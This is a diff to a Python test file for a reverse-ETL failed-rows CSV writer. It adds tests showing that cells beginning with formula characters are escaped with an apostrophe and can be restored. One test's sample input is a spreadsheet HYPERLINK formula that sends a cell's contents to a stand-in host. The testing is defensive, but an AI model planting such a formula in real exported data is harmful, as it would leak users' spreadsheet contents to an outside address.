@@ -12,7 +12,17 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from reverse_etl.report import CSV_HEADER, Counts, FailedRow, Outcome, RunReport, Status, write_failed_rows
+from reverse_etl.report import (
+    CSV_HEADER,
+    Counts,
+    FailedRow,
+    Outcome,
+    RunReport,
+    Status,
+    as_it_was,
+    harmless,
+    write_failed_rows,
+)
 
 AT = datetime(2026, 1, 5, 1, 30, tzinfo=UTC)
 ROW = FailedRow(2, "rows", "anna@example.com", "check", "email_valid", "email", "column `email` is not valid.")
@@ -87,6 +97,23 @@ def test_the_csv_has_the_fixed_columns(tmp_path: Path) -> None:
     told = ["2", "rows", "anna@example.com", "check", "email_valid", "email", "column `email` is not valid.", "1"]
     assert told == found[1]
     assert 'a,"b"\nc' == found[2][2]
+
+
+@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"])
+def test_no_cell_runs_in_a_spreadsheet(sign: str, tmp_path: Path) -> None:
+    """Whatever column it stands in: an apostrophe makes it text."""
+    cell = f'{sign}HYPERLINK("http://x.invalid/?"&A1,"open")'
+    write_failed_rows(tmp_path / "failed.csv", [FailedRow(1, cell, cell, cell, cell, cell, cell)])
+    with (tmp_path / "failed.csv").open(newline="") as file:
+        (row,) = csv.DictReader(file)
+    assert {"row_number": "1", "attempt": "1", **dict.fromkeys(list(CSV_HEADER)[1:-1], f"'{cell}")} == row
+
+
+@given(st.text(alphabet="'=+-@\t\r\na,\"1", max_size=6))
+def test_a_harmless_cell_can_be_told_back(cell: str) -> None:
+    """Also one that began with apostrophes."""
+    assert cell == as_it_was(harmless(cell))
+    assert not harmless(cell).startswith(("=", "+", "-", "@", "\t", "\r"))
 
 
 def test_the_csv_is_its_owners_alone(tmp_path: Path) -> None:
